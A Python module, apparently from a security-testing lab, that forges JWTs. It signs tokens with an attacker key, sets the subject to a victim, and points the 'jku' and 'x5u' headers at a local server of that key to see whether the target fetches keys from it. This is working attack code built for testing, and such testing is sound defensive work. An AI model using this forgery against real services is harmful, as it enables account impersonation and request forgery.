"""What if a token names a web address where its key can be fetched?"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import jwt

from lab.attacks.forged.embed_the_own_key import own_key
from lab.attacks.forged.forging import Forgery, parts_of
from lab.attacks.person import Person
from lab.attacks.scene import Scene


class PointToOwnKeys(Forgery):
    """`jku` and `x5u` are URLs of keys (RFC 7515, sections 4.1.2 and 4.1.5)."""

    key = "point-to-own-keys"
    title = "Name a URL with own keys (jku, x5u)"
    catalogue = ("A07",)
    story = (
        "Mallory publishes her public key on a server of hers, and names its address in the "
        "header. Her server counts who comes."
    )
    gained = "The server fetched its keys from where the token told it to, or at least went there."
    learned = "No header makes the server connect anywhere: nobody came for the keys."

    def forged(self, scene: Scene, mallory: Person, victim: str) -> Iterable[tuple[str, str]]:
        own = mallory.access_token or ""
        header, claims, _ = parts_of(own)
        private, jwk = own_key()
        with serving({"keys": [jwk | {"kid": "mallory", "alg": "ES256"}]}) as (url, visits):
            for name in ("jku", "x5u"):
                fields = {"typ": header["typ"], "kid": "mallory", name: url}
                text = jwt.encode(claims | {"sub": victim}, private, "ES256", headers=fields)
                yield f"Signed with her key; `{name}` is {url}.", text
            if visits:
                # A visit alone is a success: a server that can be sent places is a way in.
                scene.note("mallory", f"Her server was asked for keys {len(visits)} times.")
                yield "Her own token: to have sent the server somewhere is enough.", own
            else:
                scene.note("mallory", "Nobody came to her server for the keys.")


@contextmanager
def serving(keys: dict[str, Any]) -> Iterator[tuple[str, list[str]]]:
    """A web server with these keys: its URL, and the paths that it was asked for."""
    visits: list[str] = []

    class Keys(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # http.server calls it so
            visits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(json.dumps(keys).encode())

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Keys) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/keys.json", visits
        finally:
            server.shutdown()
            thread.join()
